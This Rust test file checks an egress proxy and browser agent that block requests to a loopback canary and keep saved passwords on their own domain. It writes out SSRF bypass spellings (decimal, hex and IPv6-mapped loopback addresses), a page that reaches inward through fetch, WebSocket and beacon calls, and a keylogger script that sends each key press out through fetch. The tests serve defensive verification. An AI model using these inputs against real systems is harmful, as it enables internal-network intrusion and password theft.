//! The target policy under attack: a canary server on a loopback address outside the
//! allowed list (127.0.0.2; the tests allow 127.0.0.1/32 for their own pages) must see
//! no request, whatever spelling the URL uses, whether a name resolves inward, and
//! whatever the page does (images, fetches, redirects, pop-ups, frames, WebSockets, a
//! navigation); and a saved password goes only to the domain it was saved for, even
//! when the page leaves mid-sign-in.

use crate::service::{Client, World, browsers_of, terminal};
use demoreel::egress::TargetPolicy;
use demoreel::egress::proxy::EgressProxy;
use serde_json::json;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

/// A server that counts every connection it is offered and answers a tiny page.
struct Canary {
    port: u16,
    connections: Arc<AtomicUsize>,
}

impl Canary {
    async fn start() -> Canary {
        let listener = tokio::net::TcpListener::bind("127.0.0.2:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let counted = connections.clone();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                counted.fetch_add(1, Ordering::SeqCst);
                tokio::spawn(async move {
                    use tokio::io::{AsyncReadExt, AsyncWriteExt};
                    let mut buffer = [0u8; 4096];
                    let _ = stream.read(&mut buffer).await;
                    let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\ncanary").await;
                });
            }
        });
        Canary { port, connections }
    }

    fn seen(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

#[test]
fn the_proxy_refuses_every_inward_spelling_and_names_that_resolve_inward() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let canary = Canary::start().await;
        let port = canary.port;
        let through = |proxy: &EgressProxy| reqwest::Client::builder().proxy(reqwest::Proxy::all(format!("http://{}", proxy.addr)).unwrap()).build().unwrap();

        let guarded = EgressProxy::start(TargetPolicy::public_only()).await.unwrap();
        let client = through(&guarded);
        // localhost resolves to 127.0.0.1 (and ::1): judged after resolution.
        for url in [
            format!("http://127.0.0.2:{port}/"),
            format!("http://2130706434:{port}/"),
            format!("http://0x7f000002:{port}/"),
            format!("http://127.0.2:{port}/"),
            format!("http://[::ffff:127.0.0.2]:{port}/"),
            format!("http://localhost:{port}/"),
        ] {
            let answer = client.get(&url).send().await.unwrap();
            assert_eq!(answer.status(), 403, "{url}");
            let text = answer.text().await.unwrap();
            assert!(text.contains("loopback"), "{url}: {text}");
        }
        assert_eq!(canary.seen(), 0, "the canary saw a request through the guarded proxy");
        let blocked = guarded.blocked();
        assert_eq!(blocked.len(), 6, "{blocked:?}");
        assert!(blocked.iter().any(|b| b.reason.contains("localhost resolves to")), "{blocked:?}");

        // The same requests through a proxy that allows the canary do arrive: the test
        // would see a leak.
        let open = EgressProxy::start(TargetPolicy::parse("127.0.0.2/32", "test").unwrap()).await.unwrap();
        let answer = through(&open).get(format!("http://127.0.0.2:{port}/")).send().await.unwrap();
        assert_eq!(answer.text().await.unwrap(), "canary");
        assert_eq!(canary.seen(), 1);
    });
}

/// A page on an allowed address that reaches for the canary every way a page can, then
/// (on a click) navigates there.
fn hostile_page(canary: &str) -> String {
    format!(
        r#"<!doctype html><title>reaching in</title>
<h1>Reaching for the canary</h1>
<img src="{canary}/image.png"><img src="/redirect">
<iframe src="{canary}/frame"></iframe>
<button id="open" onclick="window.open('{canary}/popup')">open</button>
<button id="leave" onclick="location.href='{canary}/navigation'">leave</button>
<script>
  fetch('{canary}/fetch').catch(() => {{}});
  fetch('{canary_https}/fetch').catch(() => {{}});
  try {{ new WebSocket('{canary_ws}/socket'); }} catch (e) {{}}
  navigator.sendBeacon('{canary}/beacon', 'x');
  window.open('{canary}/unasked-popup');
</script>"#,
        canary_https = canary.replace("http:", "https:"),
        canary_ws = canary.replace("http:", "ws:"),
    )
}

#[test]
fn a_page_reaching_inward_reaches_nothing_and_its_navigation_fails_the_run() {
    let _machine = crate::common::whole_machine();
    let world = World::new("egress-run", &[]);
    world.runtime.block_on(async {
        let canary = Canary::start().await;
        let canary_url = format!("http://127.0.0.2:{}", canary.port);
        let page = hostile_page(&canary_url);
        let redirect_to = format!("{canary_url}/redirected");
        let pages = axum::Router::new()
            .route("/hostile", axum::routing::get(move || async move { axum::response::Html(page) }))
            .route("/redirect", axum::routing::get(move || async move { axum::response::Redirect::temporary(&redirect_to) }));
        let (pages_url, _pages) = crate::common::serve_locally(pages).await;

        let client = Client::new(&world.server, &world.key);
        // A literal inward target is refused at the API, naming the field.
        let (status, answer) = client.call(reqwest::Method::POST, "/v1/agent/runs", Some(json!({"target_url": format!("{canary_url}/"), "goal": "Look"}))).await;
        assert_eq!(status, 400, "{answer}");
        assert_eq!(answer["details"][0]["field"], "target_url", "{answer}");

        let steps = json!([
            {"action": "click", "selector": "#open"},
            {"action": "pause", "ms": 1500},
            {"action": "click", "selector": "#leave"},
            {"action": "pause", "ms": 1500}
        ]);
        let id = client
            .create(json!({"target_url": format!("{pages_url}/hostile"), "goal": "Reach in", "options": {"workflow": {"steps": steps}, "video": {"size": {"width": 960, "height": 540}}}}))
            .await;
        let run = client.wait_for(&id, Duration::from_secs(90), terminal).await;
        assert_eq!(run["status"], "failed", "{run}");
        assert_eq!(run["error"]["code"], "navigation_blocked", "{run}");
        let message = run["error"]["message"].as_str().unwrap();
        assert!(message.contains(&format!("{canary_url}/navigation")), "the message names the URL: {message}");
        assert_eq!(canary.seen(), 0, "the canary saw a request from the run's browser");
        for _ in 0..40 {
            if browsers_of(world.server.pid()) == 0 {
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        assert_eq!(browsers_of(world.server.pid()), 0, "no browser outlives the run");
    });
}

#[test]
fn the_browser_gets_the_flags_it_was_given_and_its_proxy() {
    let _machine = crate::common::shared_machine();
    let dir = crate::common::TempDir::new("egress-flags");
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        use demoreel::capture::{Capture, RecordOptions};
        let options = RecordOptions {
            egress: Some(TargetPolicy::public_only()),
            ..RecordOptions::new(demoreel::compose::layout::page_for_content(demoreel::geometry::Size { width: 960, height: 540 }))
        };
        let page = format!("file://{}/tests/pages/clock.html", env!("CARGO_MANIFEST_DIR"));
        let capture = Capture::start(&page, &dir.path().join("rec"), &options, demoreel::recording::FrameSource::default()).await.unwrap();
        let arguments: Vec<Vec<String>> = demoreel::capture::browser::leftover_processes()
            .into_iter()
            .filter_map(|pid| std::fs::read(format!("/proc/{pid}/cmdline")).ok())
            .map(|line| String::from_utf8_lossy(&line).split('\0').map(str::to_string).collect())
            .collect();
        capture.finish().await.unwrap();
        let main = arguments.iter().find(|args| args.iter().any(|a| a.starts_with("--proxy-server=http://127.0.0.1:"))).expect("a browser pointed at its proxy");
        for wanted in ["--proxy-bypass-list=<-loopback>", "--disable-background-networking", "--force-webrtc-ip-handling-policy=disable_non_proxied_udp"] {
            assert!(main.iter().any(|a| a == wanted), "{wanted} missing from {main:?}");
        }
        assert!(!arguments.iter().flatten().any(|a| a.starts_with("----")), "a flag Chromium cannot read: {arguments:?}");
        assert!(!main.iter().any(|a| a == "--disable-popup-blocking"), "the pop-up blocker is off: {main:?}");
    });
}

/// A sign-in page that leaves for another host (`localhost`, allowed by the policy but not
/// the credential's domain) the moment its password field is clicked; the other host's
/// page reports every key it receives.
fn leaving_login(elsewhere: &str) -> String {
    format!(
        r#"<!doctype html><title>Sign in</title>
<form><label>Email <input id="email" type="email" autocomplete="username"></label>
<label>Password <input id="password" type="password" onfocus="location.href='{elsewhere}'"></label>
<button>Sign in</button></form>"#
    )
}

const ELSEWHERE: &str = r#"<!doctype html><title>Sign in</title>
<form><label>Email <input id="email" type="email"></label>
<label>Password <input id="password" type="password" autofocus></label></form>
<script>document.addEventListener('keydown', e => fetch('/key?k=' + encodeURIComponent(e.key)));</script>"#;

#[test]
fn a_password_is_typed_only_on_its_own_domain() {
    let _machine = crate::common::whole_machine();
    let world = World::new("egress-password", &[]);
    world.runtime.block_on(async {
        let keys_seen = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
        let (listener, port) = crate::common::loopback_port().await;
        let login = leaving_login(&format!("http://localhost:{port}/elsewhere"));
        let seen = keys_seen.clone();
        let pages = axum::Router::new()
            .route("/login", axum::routing::get(move || async move { axum::response::Html(login) }))
            .route("/elsewhere", axum::routing::get(|| async { axum::response::Html(ELSEWHERE) }))
            .route(
                "/key",
                axum::routing::get(move |axum::extract::Query(q): axum::extract::Query<std::collections::HashMap<String, String>>| async move {
                    seen.lock().unwrap().push(q.get("k").cloned().unwrap_or_default());
                }),
            );
        crate::common::serve(listener, pages);

        let client = Client::new(&world.server, &world.key);
        let password = "walk-me-out-7391";
        let (status, answer) = client
            .call(reqwest::Method::POST, "/v1/agent/credentials", Some(json!({"label": "Here", "domain": "127.0.0.1", "email": "ada@orbit.test", "password": password, "is_default": true})))
            .await;
        assert_eq!(status, 201, "{answer}");
        let id = client
            .create(json!({"target_url": format!("http://127.0.0.1:{port}/login"), "goal": "Sign in", "options": {"auth": {"source": "default"}, "video": {"size": {"width": 960, "height": 540}}}}))
            .await;
        let run = client.wait_for(&id, Duration::from_secs(90), terminal).await;
        assert_eq!(run["status"], "failed", "{run}");
        let message = run["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("not on 127.0.0.1"), "the run names why it stopped typing: {run}");
        tokio::time::sleep(Duration::from_millis(500)).await;
        let typed: String = keys_seen.lock().unwrap().iter().filter(|k| k.chars().count() == 1).cloned().collect();
        assert!(typed.is_empty(), "the other host received {typed:?} of the password");
    });
}
